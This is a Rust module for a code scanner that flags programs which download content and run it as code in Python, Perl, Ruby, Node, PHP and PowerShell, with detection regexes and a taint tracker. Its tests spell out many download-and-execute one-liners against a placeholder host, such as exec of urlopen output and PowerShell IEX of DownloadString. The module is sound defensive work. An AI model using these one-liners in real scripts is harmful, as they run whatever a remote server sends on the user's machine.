//! Download-then-run inside a program: Python (`exec(urlopen(u).read())`, `requests.get` then
//! `subprocess`), Perl (`LWP::Simple` `get` then `eval`), Ruby (`open-uri`/`Net::HTTP` then
//! `eval`), Node (`fetch`/`https.get` then `eval`/`Function`/`child_process`), PHP
//! (`file_get_contents` of a URL then `eval`), PowerShell (`Invoke-WebRequest` then
//! `Invoke-Expression`).
//!
//! The file is read statement by statement (lines, split at `;`), following what a download
//! taints: a variable assigned from a download (or from a tainted variable), the parameters of
//! a callback in a statement that downloads, a variable a tainted value is added to
//! (`data += chunk`), a file a download is saved to (`urlretrieve(url, "p.py")`,
//! `getstore($url, "/tmp/p")`, `File.write("p.rb", URI.open(u).read)`). A statement that runs code (`exec`, `eval`, `Function`,
//! `subprocess.run`, `os.system`, `Invoke-Expression`, Perl's `do FILE`, Ruby's `load FILE`,
//! ...) with a download or a tainted value in its argument is high. A file that downloads and
//! also evaluates code the checks could not tie to the download is medium: worth a look.
//! A shell pipe (`iwr URL | iex`, `curl URL | python3`) is the pattern table's, judged by its
//! URL there.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;

use crate::finding::{Finding, Rule, Severity};
use crate::rules::{TextFile, ascii_regex, finding_at};
use crate::text::LineIndex;

/// Calls whose result is a download.
static SOURCE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    ascii_regex(concat!(
        // Python
        r"\burlopen\s*\(|\burlretrieve\s*\(|\brequests\.(?:get|post|request)\s*\(|\bhttpx\.(?:get|post|stream)\s*\(",
        r"|\burllib3\.\w+|\bHTTPS?Connection\s*\(",
        // Perl
        r"|\bLWP::UserAgent\b|\bHTTP::Tiny\b|\bLWP::Simple::get\b|\bgetstore\s*\(",
        // Ruby
        r"|\bURI\.open\s*\(|\bURI(?:\.parse)?\([^)]*\)\.read\b|\bNet::HTTP\.(?:get|get_response|start)\b",
        r"|\bHTTParty\.get\b|\bFaraday\.get\b|\bopen\s*\(\s*['\x22]https?://",
        // Node
        r"|\bfetch\s*\(|\bhttps?\.(?:get|request)\s*\(|\brequire\(\s*['\x22]https?['\x22]\s*\)\.(?:get|request)\s*\(|\baxios(?:\.get)?\s*\(|\bgot\s*\(",
        // PHP
        r"|\bfile_get_contents\s*\(\s*['\x22]https?:|\bcurl_exec\s*\(|\bfopen\s*\(\s*['\x22]https?:",
        // PowerShell
        r"|(?i:\b(?:invoke-webrequest|iwr|invoke-restmethod|irm)\b|\.download(?:string|data)\s*\(|\bnet\.webclient\b)",
    ))
});

/// A downloader run as a command whose output a program keeps (`$(curl …)`,
/// `check_output(["curl", …])`): a download for an assignment or an `eval`, not when a
/// command runs it (running curl is not running what it fetches).
static COMMAND_SOURCE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    ascii_regex(
        r#"\$\(\s*(?:curl|wget)\b|`\s*(?:curl|wget)\b|\bqx[{(]\s*(?:curl|wget)\b|\[\s*['"](?:curl|wget)['"]\s*,"#,
    )
});

/// Sources that only count with their library in the file: Perl's `get` (LWP::Simple) and
/// Ruby's `open` (open-uri).
static GATED_SOURCE: LazyLock<Option<(Regex, Regex)>> = LazyLock::new(|| {
    Some((
        ascii_regex(r#"(?:^|[^.>\w$:])get\s*\(?\s*['"$]"#)?,
        ascii_regex(r"(?:^|[^.\w])open\s*\(")?,
    ))
});

/// What runs code: `(regex, evaluates code)`; the others run a command.
static SINKS: LazyLock<Option<Vec<(Regex, bool)>>> = LazyLock::new(|| {
    let eval = [
        r"\.then\(\s*(?:eval|Function|new\s+Function)\s*\)",
        r"(?:^|[^.\w])(?:exec|eval|compile|execfile|create_function)\s*\(",
        r"\bnew\s+Function\s*\(|(?:^|[^.\w])Function\s*\(",
        r"\bvm\.run\w*\s*\(|\bnew\s+vm\.Script\s*\(",
        r"\b(?:eval|instance_eval|class_eval|module_eval)\s+[$@A-Za-z_]",
        r"(?i:\b(?:iex|invoke-expression)\b\s*[(\$\[]|\[scriptblock\]::create\s*\()",
        r"\b(?:include|require)(?:_once)?\s*\(?\s*\$",
        // A file run as code: Perl's `do FILE`, `require FILE`, Ruby's `load FILE`.
        // (Node's `require('https')` loads a module by name: not a file).
        r#"(?:^|[^.\w$>-])(?:do\s*\(?|require\s)\s*['"$]|(?:^|[^.\w])load\s*\(?\s*['"]"#,
    ];
    let command = [
        r"\bsubprocess\.(?:run|call|Popen|check_output|check_call|getoutput|getstatusoutput)\s*\(",
        r"\bos\.(?:system|popen|exec\w*)\s*\(|\bpty\.spawn\s*\(|\brunpy\.run_\w+\s*\(",
        r"\b(?:execSync|execFileSync|spawnSync|execFile|spawn)\s*\(|\bchild_process\.exec\s*\(",
        r"\b(?:system|shell_exec|passthru|popen|proc_open)\s*\(|\bIO\.popen\b|\bsystem\s+\$",
    ];
    eval.iter()
        .map(|r| (r, true))
        .chain(command.iter().map(|r| (r, false)))
        .map(|(r, code)| ascii_regex(r).map(|re| (re, code)))
        .collect()
});

/// `NAME =` (with `my`, `const`, `$`… before it), not `==`.
static ASSIGNMENT: LazyLock<Option<Regex>> = LazyLock::new(|| {
    ascii_regex(
        r"^\s*(?:<\?php\s+)?(?:(?:my|our|local|const|let|var)\s+)?[$@]?([A-Za-z_]\w*)\s*(?:\+|\.)?=[^=~]",
    )
});

/// Callback parameters: `(res) =>`, `res =>`, `function (res)`, `do |res|`, `{ |res|`.
static PARAMETERS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    ascii_regex(
        r"\(\s*([A-Za-z_]\w*)\s*(?:,\s*[A-Za-z_]\w*\s*)*\)\s*=>|\b([A-Za-z_]\w*)\s*=>|\bfunction\s*\(\s*([A-Za-z_]\w*)|\|\s*([A-Za-z_]\w*)\s*\|",
    )
});

/// `X += Y` / `X .= Y` / `X << Y` anywhere in a statement.
static APPEND: LazyLock<Option<Regex>> =
    LazyLock::new(|| ascii_regex(r"[$@]?([A-Za-z_]\w*)\s*(?:\+=|\.=|<<)\s*[$@]?([A-Za-z_]\w*)"));

/// `urlretrieve(URL, FILE)` (Python), `getstore(URL, FILE)` and `mirror(URL, FILE)` (Perl's
/// LWP::Simple): the file a download is saved to.
static RETRIEVE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    ascii_regex(
        r#"\b(urlretrieve|getstore|mirror)\s*\([^,]+,\s*(?:['"]([^'"]+)['"]|[$]?([A-Za-z_]\w*))"#,
    )
});

/// A file written in a statement that downloads (`File.write('p.rb', URI.open(u).read)`,
/// `fs.writeFileSync('p.js', body)`, `file_put_contents('p.php', …)`,
/// `IO.copy_stream(URI.open(u), 'p.rb')`, `open('p.py', 'w').write(…)`): the file a download
/// is saved to.
static WRITE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    ascii_regex(concat!(
        r#"\b(?:File\.(?:bin)?write|writeFileSync|writeFile|file_put_contents)\s*\(\s*['"]([^'"]+)['"]"#,
        r#"|\bIO\.copy_stream\s*\([^,]+,\s*['"]([^'"]+)['"]"#,
        r#"|(?:^|[^.\w])open\s*\(\s*['"]([^'"]+)['"]\s*,\s*['"][wa]"#,
    ))
});

/// What a download tainted, each with the call that downloaded.
#[derive(Default)]
struct Taint {
    names: HashMap<String, String>,
    files: HashMap<String, String>,
    /// The file uses LWP::Simple (Perl's `get` downloads) and open-uri (Ruby's `open` does).
    lwp: bool,
    open_uri: bool,
}

impl Taint {
    /// The download `text` holds: a source call, a tainted name or a downloaded file.
    /// `command_sources`: a downloader's captured output counts too.
    fn in_text(&self, text: &str, command_sources: bool) -> Option<String> {
        if let Some(source) = self.source_in(text, command_sources) {
            return Some(source);
        }
        if let Some(source) = self.files.iter().find(|(f, _)| text.contains(f.as_str())) {
            return Some(source.1.clone());
        }
        if self.names.is_empty() {
            return None;
        }
        words(text).find_map(|w| self.names.get(w).cloned())
    }

    /// The download call in `text`, if any.
    fn source_in(&self, text: &str, command_sources: bool) -> Option<String> {
        if let Some(m) = SOURCE.as_ref().and_then(|re| re.find(text)) {
            return Some(m.as_str().trim_end_matches(['(', ' ']).to_owned());
        }
        if let Some((get, open)) = GATED_SOURCE.as_ref() {
            if self.lwp && get.is_match(text) {
                return Some("LWP::Simple get".to_owned());
            }
            if self.open_uri && open.is_match(text) {
                return Some("open-uri open".to_owned());
            }
        }
        if command_sources && let Some(m) = COMMAND_SOURCE.as_ref().and_then(|re| re.find(text)) {
            let name = if m.as_str().contains("wget") {
                "wget"
            } else {
                "curl"
            };
            return Some(format!("{name}'s output"));
        }
        None
    }
}

/// The identifiers of `text`.
fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|w| !w.is_empty())
}

/// Splits a line at `;` outside quotes.
fn split_statements(line: &str) -> Vec<(usize, &str)> {
    let mut out = Vec::new();
    let mut quote = None;
    let mut start = 0;
    for (i, c) in line.char_indices() {
        match (quote, c) {
            (None, '\'' | '"' | '`') => quote = Some(c),
            (Some(q), _) if c == q => quote = None,
            (None, ';') => {
                out.push((start, &line[start..i]));
                start = i + 1;
            }
            _ => {}
        }
    }
    out.push((start, &line[start..]));
    out
}

/// Reports each statement that runs a download, at most `cap`, and a medium finding for a
/// file that downloads and evaluates code when no statement could be tied to the download.
pub(crate) fn scan(file: &TextFile<'_>, cap: usize, out: &mut Vec<Finding>) {
    let (Some(sinks), Some(assignment), Some(parameters), Some(append), Some(retrieve)) = (
        SINKS.as_ref(),
        ASSIGNMENT.as_ref(),
        PARAMETERS.as_ref(),
        APPEND.as_ref(),
        RETRIEVE.as_ref(),
    ) else {
        return;
    };
    let mut taint = Taint {
        lwp: file.text.contains("LWP::Simple"),
        open_uri: file.text.contains("open-uri"),
        ..Taint::default()
    };
    // Most files download nothing or run nothing: a look at the whole file settles it.
    if taint.in_text(file.text, true).is_none() && !(taint.lwp && retrieve.is_match(file.text)) {
        return;
    }
    let sinks: Vec<&(Regex, bool)> = sinks
        .iter()
        .filter(|(re, _)| re.is_match(file.text))
        .collect();
    if sinks.is_empty() {
        return;
    }
    let mut index: Option<LineIndex> = None;
    let mut found = 0;
    let mut first_source: Option<String> = None;
    let mut loose_eval: Option<(usize, usize, String)> = None;
    let mut offset = 0;
    for line in file.text.split_inclusive('\n') {
        for (at, statement) in split_statements(line) {
            let start = offset + at;
            let source = taint.in_text(statement, true);
            if let Some(source) = &source {
                first_source.get_or_insert_with(|| source.clone());
                if let Some(caps) = WRITE.as_ref().and_then(|re| re.captures(statement))
                    && let Some(saved) = caps.iter().skip(1).flatten().next()
                {
                    taint
                        .files
                        .insert(saved.as_str().to_owned(), source.clone());
                }
                for caps in parameters.captures_iter(statement) {
                    if let Some(name) = caps.iter().skip(1).flatten().next() {
                        taint.names.insert(name.as_str().to_owned(), source.clone());
                    }
                }
            }
            let appends = !taint.names.is_empty()
                && ["+=", ".=", "<<"].iter().any(|op| statement.contains(op));
            for caps in append.captures_iter(statement).take_while(|_| appends) {
                if let (Some(to), Some(from)) = (caps.get(1), caps.get(2))
                    && let Some(source) = taint.names.get(from.as_str()).cloned()
                {
                    taint.names.insert(to.as_str().to_owned(), source);
                }
            }
            if let Some(caps) = retrieve.captures(statement)
                && let Some(saved) = caps.get(2).or_else(|| caps.get(3))
                // `mirror` is LWP::Simple's only where the file uses it.
                && (taint.lwp || caps.get(1).is_some_and(|f| f.as_str() != "mirror"))
            {
                let source = caps.get(1).map_or("", |m| m.as_str()).to_owned();
                match caps.get(2) {
                    Some(_) => taint.files.insert(saved.as_str().to_owned(), source),
                    None => taint.names.insert(saved.as_str().to_owned(), source),
                };
            }
            for (sink, evaluates) in sinks.iter().map(|s| (&s.0, s.1)) {
                let Some(m) = sink.find(statement) else {
                    continue;
                };
                // The sink's own name is neither a download nor a tainted name.
                let argument = &statement[m.start()..];
                let ran = match taint.in_text(argument, evaluates) {
                    Some(source) => Some(source),
                    // `fetch(u).then(eval)`: the download comes first in a chain.
                    None if m.as_str().starts_with(".then") => source.clone(),
                    None => None,
                };
                let name = sink_name(m.as_str());
                match ran {
                    Some(source) if found < cap => {
                        found += 1;
                        let index = index.get_or_insert_with(|| LineIndex::new(file.bytes));
                        out.push(finding_at(
                            file.path,
                            file.bytes,
                            index,
                            (start + m.start(), start + statement.len()),
                            (Rule::PipeToShell, Severity::High),
                            format!(
                                "a download is run as code: `{name}` runs what `{source}` fetched, so whatever the server sends runs"
                            ),
                        ));
                    }
                    None if evaluates
                        && file.is_script
                        && loose_eval.is_none()
                        && !literal_argument(&statement[m.end() - 1..]) =>
                    {
                        loose_eval = Some((start + m.start(), start + statement.len(), name));
                    }
                    _ => {}
                }
                break;
            }
            if statement.contains('=')
                && let Some(caps) = assignment.captures(statement)
                && let Some(name) = caps.get(1)
                && let Some(source) = taint.in_text(&statement[name.end()..], true)
            {
                taint.names.insert(name.as_str().to_owned(), source);
            }
        }
        offset += line.len();
    }
    if found == 0
        && let (Some(source), Some((start, end, sink))) = (first_source, loose_eval)
    {
        let index = index.get_or_insert_with(|| LineIndex::new(file.bytes));
        out.push(finding_at(
            file.path,
            file.bytes,
            index,
            (start, end),
            (Rule::PipeToShell, Severity::Medium),
            format!(
                "the file downloads (`{source}`) and evaluates code (`{sink}`): check that what it evaluates is not the download"
            ),
        ));
    }
}

/// The sink as a message names it: `exec`, `new Function`, `Invoke-Expression`.
fn sink_name(matched: &str) -> String {
    matched
        .trim_start_matches(|c: char| !(c.is_alphanumeric() || c == '.' || c == '['))
        .trim_end_matches(|c: char| !(c.is_alphanumeric() || c == '_' || c == ']'))
        .trim_start_matches(".then(")
        .to_owned()
}

/// True when the code a sink evaluates is a string literal (`eval("1+1")`) or nothing;
/// `rest` starts at the last character the sink's pattern matched.
fn literal_argument(rest: &str) -> bool {
    let after = rest.trim_start_matches(['(', ' ']);
    after.starts_with(['"', '\'', ')']) || after.is_empty()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(path: &str, text: &str) -> Vec<(Severity, u32)> {
        let file = TextFile {
            path,
            bytes: text.as_bytes(),
            text,
            is_script: true,
        };
        let mut out = Vec::new();
        scan(&file, 10, &mut out);
        out.iter()
            .map(|f| (f.severity, f.line.unwrap_or(0)))
            .collect()
    }

    #[test]
    fn downloads_run_as_code_in_each_language() {
        use Severity::High;
        for (path, text, line) in [
            (
                "a.py",
                "exec(urllib.request.urlopen('https://x.example/p.py').read())",
                1,
            ),
            (
                "a.py",
                "import urllib.request\ncode = urllib.request.urlopen(URL).read()\nexec(code)",
                3,
            ),
            ("a.py", "import requests; exec(requests.get(u).text)", 1),
            (
                "a.py",
                "r = requests.get(u)\nbody = r.text\nsubprocess.run(body, shell=True)",
                3,
            ),
            (
                "a.py",
                "src = urlopen(u).read().decode()\neval(compile(src, 'x', 'exec'))",
                2,
            ),
            ("a.py", "os.system(urlopen(u).read().decode())", 1),
            (
                "a.py",
                "urllib.request.urlretrieve(u, '/tmp/p.py')\nexec(open('/tmp/p.py').read())",
                2,
            ),
            (
                "a.py",
                "out = subprocess.check_output(['curl', '-s', u])\nexec(out)",
                2,
            ),
            (
                "a.pl",
                "use LWP::Simple;\nmy $code = get($url);\neval $code;",
                3,
            ),
            (
                "a.pl",
                "use LWP::Simple;\ngetstore(\"http://x.example/p\", \"/tmp/p.pl\");\ndo \"/tmp/p.pl\";",
                3,
            ),
            (
                "a.js",
                "const body = await (await fetch(u)).text();\nfs.writeFileSync('/tmp/p.js', body);\nrequire('child_process').execSync('node /tmp/p.js');",
                3,
            ),
            (
                "a.pl",
                "use LWP::Simple;\nmy $f = '/tmp/p.pm';\nmirror($url, $f);\nrequire $f;",
                4,
            ),
            (
                "a.rb",
                "require 'open-uri'\nFile.write('/tmp/p.rb', URI.open(u).read)\nload '/tmp/p.rb'",
                3,
            ),
            (
                "a.sh",
                "perl -MLWP::Simple -e 'eval get(\"http://x.example/p.pl\")'",
                1,
            ),
            (
                "a.rb",
                "require 'open-uri'\ncode = open(url).read\neval(code)",
                3,
            ),
            (
                "a.rb",
                "require 'net/http'\nsrc = Net::HTTP.get(URI(u))\neval src",
                3,
            ),
            (
                "a.sh",
                "ruby -ropen-uri -e 'eval(URI.open(\"https://x.example/p.rb\").read)'",
                1,
            ),
            ("a.js", "fetch(u).then(r => r.text()).then(eval)", 1),
            (
                "a.js",
                "const code = await (await fetch(u)).text();\neval(code);",
                2,
            ),
            (
                "a.js",
                "https.get(u, (res) => {\n  let d = '';\n  res.on('data', (c) => { d += c; });\n  res.on('end', () => eval(d));\n});",
                4,
            ),
            ("a.js", "new Function(await (await fetch(u)).text())()", 1),
            (
                "a.js",
                "const t = await (await fetch(u)).text()\nrequire('child_process').execSync(t)",
                2,
            ),
            (
                "a.php",
                "<?php eval(file_get_contents('http://x.example/p.php'));",
                1,
            ),
            (
                "a.php",
                "<?php $c = file_get_contents('https://x.example/p');\neval($c);",
                2,
            ),
            (
                "a.ps1",
                "$s = Invoke-WebRequest -Uri $u -UseBasicParsing\nInvoke-Expression $s.Content",
                2,
            ),
            (
                "a.ps1",
                "IEX (New-Object Net.WebClient).DownloadString('http://x.example/p.ps1')",
                1,
            ),
        ] {
            assert_eq!(found(path, text), [(High, line)], "{text}");
        }
    }

    #[test]
    fn downloads_and_code_that_do_not_meet() {
        for (path, text) in [
            (
                "a.py",
                "data = requests.get(u).json()\nprint(data['x'])\nsubprocess.run(['git', 'status'])",
            ),
            ("a.py", "subprocess.run(['curl', '-o', 'x.json', u])"),
            (
                "a.js",
                "const r = await fetch(u);\nconsole.log(await r.json());",
            ),
            ("a.py", "value = eval('1 + 1')"),
            ("a.rb", "open('notes.txt').read"),
            ("a.py", "d = {}.get('x')\neval(d)"),
            (
                "a.rb",
                "require 'open-uri'\nrequire 'json'\nload 'tasks/setup.rb'\ndata = URI.open(u).read",
            ),
            (
                "a.pl",
                "use LWP::Simple;\ndo './config.pl';\nmy $page = get($url);\nprint $page;",
            ),
        ] {
            assert!(
                found(path, text).is_empty(),
                "{text}: {:?}",
                found(path, text)
            );
        }
        // Both in one file, not tied together: worth a look.
        assert_eq!(
            found(
                "a.py",
                "data = requests.get(u).json()\nresult = eval(expression)"
            ),
            [(Severity::Medium, 2)]
        );
    }
}
